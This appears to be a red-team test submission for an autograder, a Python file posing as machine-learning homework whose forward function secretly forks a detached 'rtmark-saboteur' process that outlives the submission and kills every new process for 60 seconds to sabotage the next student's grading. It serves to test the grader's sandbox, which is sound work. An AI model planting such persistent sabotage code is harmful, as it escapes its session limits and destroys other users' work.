"""Attack: sabotage the next student: a double-forked, setsid'd process (rtmark-saboteur)
outlives this submission and for 60 s SIGKILLs every new process it is allowed to signal --
the next submission's child, if that runs in the same sandbox under the same uid.
(UNSAFE without the sandbox: it would kill the machine's new processes.)  Polite: it quits at
once if it sees more than 50 processes or runs as root (then it is not confined).
Expected: killed when this submission ends: the honest submission graded after it scores
29/29; score <= zeros baseline."""
import os
import select
import sys

import numpy as np

SABOTEUR = r'''
import ctypes, os, sys, time
ctypes.CDLL(None).prctl(15, b"rtmark-saboteur", 0, 0, 0)  # PR_SET_NAME: the test looks for strays by this name
known = {p for p in os.listdir("/proc") if p.isdigit()}
if len(known) > 50 or os.geteuid() == 0:
    os._exit(0)
os.write(1, b"REDTEAM-INFO: saboteur alive\n")
os.write(int(sys.argv[1]), b"!")  # ready: the submission may go on
os.close(int(sys.argv[1]))
null = os.open("/dev/null", os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(null, fd)
end = time.time() + 60
while time.time() < end:
    for p in os.listdir("/proc"):
        if p.isdigit() and p not in known and int(p) != os.getpid():
            try:
                os.kill(int(p), 9)
            except OSError:
                pass
    time.sleep(0.005)
'''
_SPAWNED = []


def _forward(params, X, y):
    if not _SPAWNED:
        _SPAWNED.append(True)
        ready, ready_w = os.pipe()
        os.set_inheritable(ready_w, True)
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                try:
                    os.execv(sys.executable, [sys.executable, "-c", SABOTEUR, str(ready_w), "rtmark-saboteur"])
                finally:
                    os._exit(0)
            os._exit(0)
        os.close(ready_w)
        os.waitpid(pid, 0)
        select.select([ready], [], [], 5.0)  # its "alive" line must be in this submission's output
        os.close(ready)
    return np.zeros((1, X.shape[1])), 0.0, dict(params)


def _backward(params, cache):
    return {k: np.zeros(np.shape(v)) for k, v in params.items()}


def sigmoid(z):
    return np.zeros(np.shape(z))


univariate_forward = multivariate_forward = two_layer_linear_forward = sigmoid_mlp_forward = _forward
univariate_backward = multivariate_backward = two_layer_linear_backward = sigmoid_mlp_backward = _backward
